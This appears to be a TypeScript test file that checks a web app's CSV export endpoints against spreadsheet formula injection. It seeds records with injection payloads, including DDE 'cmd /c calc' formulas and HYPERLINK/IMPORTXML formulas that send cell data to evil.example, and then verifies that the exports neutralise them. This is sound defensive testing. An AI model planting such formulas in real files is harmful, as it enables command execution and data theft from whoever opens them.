import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, test } from 'vitest';
import { CONTACT_COLUMNS } from '#shared/features/contacts/contacts.columns.ts';
import { INQUIRY_COLUMN_LABELS, INQUIRY_COLUMNS } from '#shared/features/inquiries/inquiries.columns.ts';
import { METRIC_COLUMN_LABELS, STATE_COLUMN_LABELS } from '#shared/features/metrics/metric-columns.ts';
import { referralAnalyticsMessages } from '#shared/features/referral-analytics/referral-analytics.messages.ts';
import { SOURCE_EXPORT_LABELS } from '#shared/features/referral-sources/referral-sources.columns.ts';
import { guardFormula, unguardFormula } from '#shared/platform/csv-record.ts';
import { startTestApp } from '#tests/support/app.ts';
import { createCampaign } from '#tests/support/campaigns.ts';
import { NAUGHTY_STRINGS } from '#tests/support/matrix/naughty.ts';
import { streamRoutesOf } from '#tests/support/routes.ts';

const app = await startTestApp({ limited: false });
// What is counted is dated a day later, and no count looks ahead.
app.clock.advance(24 * 3_600_000);
const admin = await app.signIn('admin');

const FORMULAS = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1:A9),"//a")',
  '+SUM(A1:A9)',
  '+cmd|"/c calc"!A0',
  '-2+3+cmd|"/c calc"!A0',
  '-SUM(1)*9',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''=1+1",
  '=1+1",="2',
  '=1+1\r\n=2+2',
  '"=1+1"',
  '=DDE("cmd";"/C calc";"x")',
  '=',
  '+',
  '@',
];
/** What a name can hold: Postgres takes neither NUL nor half a character. */
const TEXTS = [...new Set([...FORMULAS, ...NAUGHTY_STRINGS])].filter(
  (text) => text !== '' && text.length <= 100 && Buffer.from(text).toString() === text && !text.includes('\0'),
);

const nameOf = (text: string, n: number): string => `${text}-${1_000 + n}`;
const REFERRAL_ID = '00000000-0000-4000-8000-000000000001';

interface Export {
  asked: Record<string, string>;
  /** The columns that hold what people typed, and as what. */
  holding: Record<string, (text: string, n: number) => string>;
}

const asTyped = (text: string): string => text;

/** Every export by its address. */
const EXPORTS: Record<string, Export> = {
  '/api/opportunities_export': {
    asked: { columns: INQUIRY_COLUMNS.join(',') },
    holding: {
      [INQUIRY_COLUMN_LABELS.opportunity_name]: nameOf,
      [INQUIRY_COLUMN_LABELS.referral_org]: asTyped,
      [INQUIRY_COLUMN_LABELS.medication_plan]: asTyped,
    },
  },
  '/api/contacts_export': {
    asked: { columns: CONTACT_COLUMNS.join(',') },
    holding: { 'First Name': asTyped, 'Last Name': asTyped, Address: asTyped, 'Organization Name': asTyped },
  },
  '/api/referrals_export': {
    asked: { state: 'VT' },
    holding: { [SOURCE_EXPORT_LABELS.referral_name]: asTyped, [SOURCE_EXPORT_LABELS.rule_out]: asTyped },
  },
  // The log holds ids alone; what a record is called today stands in it as text like any other.
  '/api/audit_export': { asked: {}, holding: {} },
  '/api/referral_analytics_export': {
    asked: { referral_id: REFERRAL_ID, start_date: '2020-01-01', end_date: '2099-12-31', metric: 'referred_in' },
    holding: { [referralAnalyticsMessages.inquiry_name]: nameOf },
  },
  '/api/metrics_export': {
    asked: {
      start_date: '2020-01-01',
      end_date: '2026-05-13',
      metric: 'opportunities_created_by_professional_referral',
    },
    holding: { [METRIC_COLUMN_LABELS.opportunity_name]: nameOf },
  },
  // Nobody was sent anything yet: who gets mails are contacts, and their own export holds their names.
  '/api/marketing_analytics_export': { asked: { event_type: 'sent' }, holding: {} },
  '/api/suppressions_export': { asked: {}, holding: {} },
  '/api/geo_referral_export': {
    asked: { start_date: '2020-01-01', end_date: '2026-05-13', state: 'VT' },
    holding: { [STATE_COLUMN_LABELS.organization_name]: asTyped },
  },
};

beforeAll(async () => {
  EXPORTS['/api/marketing_analytics_export']!.asked.campaign_id = await createCampaign(app, 'a');
});

beforeAll(() =>
  app.within('a', async (tx) => {
    const { newId } = tx.services;
    const own = { org_id: tx.actor.org_id };
    const patient_id = newId();
    const client = { ...own, id: patient_id, firstname: 'Dana', lastname: 'Sample' };
    await tx.db.insertInto('clients').values(client).execute();
    const created_at = '2026-05-13T12:00:00Z';
    const inquiry = {
      ...own,
      patient_id,
      created_at,
      client_name: 'Dana Sample',
      client_phone: null,
      condition: [],
      staff: [],
    };
    const source = { ...own, type: 'School' };
    const named = TEXTS.map((text) => ({ ...source, id: newId(), referral_name: text, rule_out: text, state: 'VT' }));
    await tx.db
      .insertInto('referral_sources')
      .values([{ ...source, id: REFERRAL_ID, referral_name: 'Alder House' }, ...named])
      .execute();
    const inquiries = TEXTS.map((text, n) => ({
      ...inquiry,
      id: newId(),
      opportunity_name: nameOf(text, n),
      referral_org: text,
      medication_plan: text,
    }));
    await tx.db.insertInto('inquiries').values(inquiries).execute();
    await tx.db
      .insertInto('referral_records')
      .values(
        inquiries.flatMap(({ id: opportunity_id }, n) => {
          const received = {
            ...own,
            ...{ opportunity_id, referred_at: '2026-05-13' },
            referral_direction: 'referral_received' as const,
            source_type: 'professional_referral' as const,
          };
          return [
            { ...received, id: newId(), referral_id: REFERRAL_ID, priority_level: 'primary' as const },
            { ...received, id: newId(), referral_id: named[n]!.id, priority_level: 'secondary' as const },
          ];
        }),
      )
      .execute();
    await tx.db
      .insertInto('referral_contacts')
      .values(
        TEXTS.map((text) => ({
          ...own,
          id: newId(),
          referral_id: REFERRAL_ID,
          organization_name: text,
          firstname: text,
          lastname: text,
          address: text,
        })),
      )
      .execute();
  }),
);

async function fileOf(path: string): Promise<string> {
  const answer = await fetch(`${app.url}${path}?${new URLSearchParams(EXPORTS[path]?.asked)}`, {
    headers: { authorization: `Bearer ${admin.token}` },
  });
  expect(answer.status).toBe(200);
  return Buffer.from(await answer.arrayBuffer()).toString();
}

const BEGINS = /^[=+\-@\t\r]/;
const PLAIN = /^[+\d()\-. ]+$/;

test('every export is among them', () => {
  const exporting = new Set(streamRoutesOf().flatMap(({ path }) => (path.endsWith('_export') ? [path] : [])));
  expect([...exporting].sort()).toEqual(Object.keys(EXPORTS).sort());
});

describe.each(Object.entries(EXPORTS))('%s', (path, { holding }) => {
  test('holds what was typed, once the guard is taken off, and nothing that begins a formula', async () => {
    const rows: string[][] = parse(await fileOf(path), { bom: true, record_delimiter: '\r\n' });
    const [head = [], ...records] = rows;
    for (const cell of rows.flat()) expect(BEGINS.test(cell) && !PLAIN.test(cell)).toBe(false);
    for (const [name, held] of Object.entries(holding)) {
      const at = head.indexOf(name);
      expect(at).toBeGreaterThan(-1);
      const read = records.map((record) => unguardFormula(record[at] ?? ''));
      expect(read.sort()).toEqual(TEXTS.map(held).sort());
    }
  });

  test('is opened by a spreadsheet with texts alone where a formula was typed', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = await workbook.csv.read(Readable.from([await fileOf(path)]), { map: (value: string) => value });
    const guarded = new Set(FORMULAS.flatMap((text, n) => [text, nameOf(text, n)].map(guardFormula)));
    let texts = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect([ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink]).not.toContain(cell.type);
        if (guarded.has(cell.text)) texts += 1;
      }),
    );
    expect(texts).toBeGreaterThanOrEqual(FORMULAS.length * Object.keys(holding).length);
  });
});
